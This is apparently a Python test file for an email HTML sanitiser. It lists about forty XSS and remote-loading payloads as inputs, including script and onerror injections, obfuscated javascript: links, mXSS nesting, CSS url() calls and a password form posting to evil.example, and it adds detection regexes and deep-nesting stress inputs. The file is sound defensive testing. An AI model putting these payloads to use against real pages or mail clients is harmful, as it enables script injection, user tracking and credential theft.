"""What a mail's HTML may still do when shown: nothing, and nothing is fetched."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opora.mail.parsing.html import sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,xx'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import url(//evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:\\75rl(//evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<body background=//evil.example>x</body>",
    "<table background=//evil.example><tr><td>x</td></tr></table>",
    "<img src=//evil.example/p.gif>",
    "<img src='https://evil.example/p.gif'>",
    "<img srcset='https://evil.example/p 2x'>",
    "<video poster=//evil.example></video>",
    "<audio src=//evil.example></audio>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=//evil.example /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<div style='list-style:url(//evil.example)'>x</div>",
    "<img src='  https://evil.example/p.gif'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='//evil.example' ping='//evil.example'>x</a>",
    "<p title='\"><img src=https://evil.example/x>'>x</p>",
    "<template><img src=https://evil.example></template>",
    "<noscript><img src=https://evil.example></noscript>",
    "<div class=modal id=login>x</div>",
    "<!--[if mso]><img src=https://evil.example><![endif]-->",
    "<img src=cid:a style='content:url(https://evil.example)'>",
    "<p style='color:red;background-image:image-set(\"//evil.example\" 1x)'>x</p>",
]
FORBIDDEN = re.compile(
    r"<(?:script|style|iframe|object|embed|form|input|link|meta|base|svg|math|video|audio"
    r"|template|body|html)\b|<[^>]*\s(?:on\w+|srcset|background|poster|ping|action|class|id"
    r"|formaction)\s*=",
    re.I,
)
LOADS = re.compile(
    r"<img[^>]*\ssrc=\"(?!cid:|data:image/(?:png|gif|jpe?g|webp|bmp);)|url\s*\(|@import"
    r"|position\s*:",
    re.I,
)


def attributes_unquoted(html: str) -> str:
    """The markup alone: what stands in quotes or between tags cannot act."""
    return re.sub(r'(title|alt)="[^"]*"', "", re.sub(r">[^<]*<", "><", html))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str) -> None:
    cleaned = attributes_unquoted(f"<p></p>{sanitise('<p>before</p>' + attack + '<p>after</p>')}<p></p>")
    assert not FORBIDDEN.search(cleaned)
    assert not LOADS.search(cleaned)
    assert not re.search(r"href=\"\s*(?:javascript|data|vbscript):", cleaned, re.I)


def test_what_may_stay_stays() -> None:
    html = '<p style="color: red">Hello <b>you</b> <a href="https://x.example/">link</a> <img src="cid:a@b" alt="p"></p><table><tr><td colspan="2">1</td></tr></table>'
    cleaned = sanitise(html)
    for piece in (
        "color:red",
        "<b>you</b>",
        'href="https://x.example/"',
        'src="cid:a@b"',
        'colspan="2"',
        'rel="noopener noreferrer nofollow"',
    ):
        assert piece in cleaned


def test_remote_pictures_wait_for_the_agent() -> None:
    assert (
        sanitise('<img src="https://x.example/p.gif" alt="logo">')
        == '<img data-src="https://x.example/p.gif" alt="logo">'
    )


@given(st.text(st.sampled_from(list("<>/='\" abimgsrchtp:&;#-!\n\x00")), max_size=300))
def test_any_html_comes_out_harmless(html: str) -> None:
    cleaned = attributes_unquoted(sanitise(html))
    assert not FORBIDDEN.search(cleaned) and not LOADS.search(cleaned)


@pytest.mark.parametrize(
    "html",
    [
        "<" * 300_000,
        "<div>" * 50_000,
        '<a href="' * 50_000,
        "<b><i>" * 30_000,
        "<!--" * 100_000,
        "<svg>" * 30_000,
        "&" * 300_000,
    ],
)
def test_absurd_html_is_borne(html: str) -> None:
    assert len(sanitise(html)) <= 5 * len(html)


@pytest.mark.parametrize("absurd", ["<div></x>", "<ul><li></x></x>", "<main>", "<unknown>"])
def test_nesting_is_bounded_however_it_is_disguised(absurd: str) -> None:
    cleaned = sanitise(f"<p>Hello</p>{absurd * 5000}<p>world</p>")
    assert cleaned.count("<") < 20
    assert "Hello" in cleaned and "world" in cleaned
